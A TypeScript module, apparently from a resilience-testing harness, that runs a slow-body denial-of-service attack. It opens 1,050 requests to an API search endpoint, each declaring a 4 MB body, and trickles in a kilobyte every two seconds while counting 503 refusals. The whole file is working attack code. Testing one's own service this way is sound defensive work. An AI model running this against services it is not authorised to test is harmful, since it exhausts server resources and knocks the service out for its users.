import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { callHead, openSender, repeat } from './sender.ts';

const bodies = 1050;
const trickleMs = 2000;

/** Begins 1,050 bodies with one key, and sends another kilobyte of each now and then. */
export const halfSentBodies: Attack = async ({ url, key }, until, count) => {
  await repeat(bodies, until, async () => {
    const sender = await openSender(url, callHead('/v1/tools/search', key, 'Content-Length: 4000000'), until);
    count('begun');
    while (await sender.write(' '.repeat(1024))) await Promise.race([wait(trickleMs), sender.closed]);
    if (sender.status === 503) count('refused');
  });
};
